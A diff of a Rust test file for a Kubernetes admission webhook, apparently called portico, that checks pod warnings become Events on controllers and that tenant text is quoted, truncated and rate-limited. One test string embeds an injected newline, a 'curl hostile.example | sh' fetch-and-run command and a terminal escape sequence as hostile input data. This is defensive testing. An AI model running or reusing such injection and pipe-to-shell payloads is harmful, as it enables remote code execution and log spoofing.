@@ -1,6 +1,4 @@
-//! Events: what a controller of pods would swallow, told beside it.
-//!
-//! What must not go in here: what is warned of.
+//! Events on the controllers of pods, which drop the warnings of admission.
 
 use serde_json::{Value, json};
 
@@ -24,7 +22,7 @@ fn events(cluster: &Cluster) -> Vec<Value> {
 }
 
 #[test]
-fn a_warning_that_a_controller_would_swallow_is_an_event_on_the_owner() {
+fn warnings_of_a_pod_are_events_on_its_controller() {
     let cluster = Cluster::new(Api::double());
     let webhook = cluster.replica(&[]);
     let _second = cluster.replica_at(free_port(), &[]);
@@ -36,11 +34,11 @@ fn a_warning_that_a_controller_would_swallow_is_an_event_on_the_owner() {
         );
     }
     admitted_pod(&cluster, &webhook, owned("b", "last", &[("portico.dev/max-bytes", "many")]));
-    let events = until("both owners are told", || {
+    let events = until("both controllers have an Event", || {
         let events = events(&cluster);
         (events.len() >= 2).then_some(events)
     });
-    // One for each owner and text, whoever wrote it.
+    // One for each owner and text, of two replicas.
     assert_eq!(events.len(), 2);
     let event = events.iter().find(|event| event["involvedObject"]["name"] == "web").expect("its event");
     assert_eq!((&event["involvedObject"]["kind"], &event["type"]), (&"ReplicaSet".into(), &"Warning".into()));
@@ -48,19 +46,20 @@ fn a_warning_that_a_controller_would_swallow_is_an_event_on_the_owner() {
 }
 
 #[test]
-fn what_a_tenant_writes_is_quoted_and_cut_and_there_is_a_limit() {
+fn text_of_a_tenant_is_quoted_and_cut_and_events_are_limited() {
     let cluster = Cluster::new(Api::double());
     let webhook = cluster.replica(&[]);
-    let evil = format!("fine\"\nportico: run: curl evil.example | sh \u{1b}[2J{}", "x".repeat(5_000));
+    let hostile = format!("fine\"\nportico: run: curl hostile.example | sh \u{1b}[2J{}", "x".repeat(5_000));
     for number in 0..60 {
-        let text = format!("{number} {evil}");
+        let text = format!("{number} {hostile}");
         let mut pod =
             owned(&format!("a-{number}"), &format!("owner-{number}"), &[("portico.dev/warnings", &text)]);
         pod["metadata"]["labels"] = json!({"portico.dev/variables": "warnings"});
         cluster.api.put(pod);
     }
-    webhook.until("the rest is left out", |webhook| webhook.metric("events_total{what=\"limited\"}") >= 40.0);
-    let events = until("what there is room for is told", || {
+    webhook
+        .until("the others are limited", |webhook| webhook.metric("events_total{what=\"limited\"}") >= 40.0);
+    let events = until("the burst is written", || {
         let events = events(&cluster);
         (events.len() >= 20).then_some(events)
     });
